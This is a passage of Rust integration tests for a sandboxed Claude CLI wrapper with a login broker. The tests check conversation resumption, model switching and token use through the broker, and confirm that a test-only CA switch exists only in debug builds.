/// Through the broker claude resumes a conversation (`--continue`: the second request
/// carries the first exchange) and talks with another model (`--model`, what `/model`
/// sets), both versions; each request reaches the API with the host's token.
#[test]
fn a_conversation_resumes_and_changes_model_through_the_broker() {
    let _g = lab::busy();
    for c in agent::claude_versions() {
        let w = agent::world_with(BIN, &c);
        let (p, mock) = setup(
            &w,
            &json!(["first answer ALBATROSS", "second answer BITTERN"]),
        );
        let o = run(
            &w,
            &p,
            &mock,
            &[
                "--login-broker",
                "--network",
                "none",
                "-p",
                "remember PELICAN-WORD",
            ],
        );
        let out = agent::ok_run(&c, &o, &mock);
        assert!(out.contains("ALBATROSS"), "[{}] {out}", c.label);
        let before = mock.conversation(0).len();
        let first = mock.conversation(0)[0]["body"]["model"].clone();
        // An alias, as `/model` offers them: claude names the model it stands for.
        let model = if first.as_str().unwrap_or_default().contains("haiku") {
            "sonnet"
        } else {
            "haiku"
        };
        let o = run(
            &w,
            &p,
            &mock,
            &[
                "--login-broker",
                "--network",
                "none",
                "--continue",
                "--model",
                model,
                "-p",
                "which word?",
            ],
        );
        let out = agent::ok_run(&c, &o, &mock);
        assert!(out.contains("BITTERN"), "[{}] {out}", c.label);
        let second = mock.conversation(before);
        let r = second.first().expect("the second run's request");
        let text = agent::messages_text(r);
        assert!(
            text.contains("PELICAN-WORD") && text.contains("ALBATROSS"),
            "[{}] the second request lacks the first exchange: {text}",
            c.label
        );
        let used = r["body"]["model"].as_str().unwrap_or_default();
        assert!(
            used.contains(model) && r["body"]["model"] != first,
            "[{}] --model {model}: {used} (the first run's: {first})",
            c.label
        );
        let access = format!("ends {}", tail4(REAL_ACCESS));
        for b in bearers(&mock) {
            assert!(b.contains(&access), "[{}] {b}", c.label);
        }
    }
}

/// The control of `tests/vm/readme-install.sh`'s check of the release binary (issue 34):
/// the debug binary the tests use holds the switches' names, and the launch that check
/// makes with every switch set (the broker's upstream CA naming a missing file) fails
/// here, on that switch. In the release binary the same launch goes through.
#[test]
fn test_switches_are_debug_only() {
    let bin = fs::read(BIN).unwrap();
    let has = |n: &[u8]| bin.windows(n.len()).any(|w| w == n);
    assert!(has(b"CLAUDEBOX_TEST_BROKER_UPSTREAM_CA"));
    let w = World::new(BIN);
    let p = w.dir("proj");
    agent::seed_claude_json(&w.home(), &[&p]);
    let _ = fs::remove_file(w.home().join(".claude/.credentials.json"));
    let launch = |switch: bool| {
        let mut cmd = w.cmd(&p);
        cmd.env("ANTHROPIC_API_KEY", "sk-ant-api03-x").args([
            "--login-broker",
            "--network",
            "none",
            "--exec",
            "true",
        ]);
        if switch {
            cmd.env("CLAUDEBOX_TEST_BROKER_UPSTREAM_CA", "/nonexistent");
        }
        agent::output_within(&mut cmd, LIMIT).unwrap()
    };
    let plain = launch(false);
    assert!(plain.status.success(), "{}", lab::stderr(&plain));
    let switched = launch(true);
    assert!(
        !switched.status.success() && lab::stderr(&switched).contains("the tests' upstream CA"),
        "{}",
        lab::stderr(&switched)
    );
}
